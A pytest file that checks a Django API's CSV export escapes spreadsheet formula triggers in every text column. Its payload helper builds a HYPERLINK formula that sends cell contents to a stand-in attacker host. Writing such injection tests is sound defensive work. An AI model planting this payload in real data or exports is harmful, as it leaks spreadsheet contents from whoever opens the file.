"""CSV exports cannot carry spreadsheet formulas.

A claim's words, its speaker, an actor's name, an article's title, a cue: all
come from outside (the articles, or an editor) and reach ``?format=csv``. A
cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return is run
as a formula by spreadsheet programs (``=HYPERLINK(...)`` leaking data, or
worse), so such a cell is written with a leading apostrophe. Every trigger is
tried in every text column.
"""

from __future__ import annotations

import csv
import io

import pytest
from rest_framework.test import APIClient

from claims.api.renderers import CSV_COLUMNS, FORMULA_TRIGGERS
from claims.models import ClaimRelay, SourceKind
from tests.factories import ActorFactory, ArticleFactory, ClaimFactory, SourceFactory

pytestmark = pytest.mark.django_db

TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]


def payload(trigger: str) -> str:
    return f'{trigger}HYPERLINK("http://attacker.example/?"&A1,"open")'


def make_claim(column: str, value: str):
    """A claim whose ``column`` in the export is ``value``; every other cell is plain."""
    publisher = SourceFactory(name="Plain Paper", slug=value if column == "publisher" else "plain")
    actor = ActorFactory(
        name=value if column == "actor_name" else "Plain Person",
        slug=value if column == "actor_slug" else "plain-person",
    )
    article = ArticleFactory(
        publisher=publisher,
        title=value if column == "article_title" else "A plain title",
        body="x" * 400,
    )
    text = value if column == "text" else "A plain statement"
    claim = ClaimFactory(
        article=article,
        actor=actor,
        text=text,
        start=1,
        end=1 + len(text),
        speaker_mention=value if column == "speaker_mention" else "she",
        cue=value if column == "cue" else "said",
        public_explanation=value if column == "public_explanation" else "",
    )
    relay = SourceFactory(
        name="Relay", slug=value if column == "via" else "relay", kind=SourceKind.AGENCY
    )
    ClaimRelay.objects.create(claim=claim, source=relay, position=0)
    return claim


TEXT_COLUMNS = [
    "text",
    "speaker_mention",
    "actor_slug",
    "actor_name",
    "article_title",
    "publisher",
    "cue",
    "via",
    "public_explanation",
]


def export() -> list[dict]:
    response = APIClient().get("/api/v1/claims/?format=csv")
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(content, newline="")))


def test_every_text_column_is_covered():
    numbers = {"id", "article_id", "published", "confidence", "start", "end", "rating"}
    numbers |= {"statement", "appearances"}
    choices = {"kind", "review_status"}
    assert set(CSV_COLUMNS) - numbers - choices == set(TEXT_COLUMNS)
    assert set(FORMULA_TRIGGERS) == set(TRIGGERS)


@pytest.mark.parametrize("column", TEXT_COLUMNS)
@pytest.mark.parametrize("trigger", TRIGGERS, ids=repr)
def test_formula_cell_is_neutralised(column, trigger):
    value = payload(trigger)
    make_claim(column, value)
    (row,) = export()
    assert row[column] == "'" + value
    for other in TEXT_COLUMNS:
        if other != column:
            assert not row[other].startswith("'"), other


def test_plain_cells_are_untouched():
    make_claim("text", "Prices rose 3% - and fell again; costs = 5")
    (row,) = export()
    assert row["text"] == "Prices rose 3% - and fell again; costs = 5"
    assert row["confidence"] == "0.9"
